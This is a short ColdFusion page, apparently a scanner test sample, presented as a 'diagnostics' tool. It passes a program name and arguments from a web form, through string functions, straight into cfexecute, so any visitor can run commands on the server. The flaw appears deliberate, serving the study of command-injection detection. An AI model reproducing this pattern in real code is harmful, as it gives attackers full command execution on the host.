<cfsetting enablecfoutputonly="no">
<!--- A "diagnostics" page: the program and its arguments come from the form, passed through string
      functions on their way into cfexecute. --->
<cfparam name="form.prog" default="">
<cfparam name="form.args" default="">
<cfif len(form.prog)>
  <cfexecute name="#Trim(LCase(form.prog))#"
             arguments="#ListToArray(Replace(form.args, ',', ' ', 'all'), ' ')#"
             timeout="15" variable="diagOut" errorVariable="diagErr"></cfexecute>
  <pre><cfoutput>#HTMLEditFormat(diagOut)##HTMLEditFormat(diagErr)#</cfoutput></pre>
</cfif>
<form method="post"><input name="prog"><input name="args"><button>Run</button></form>
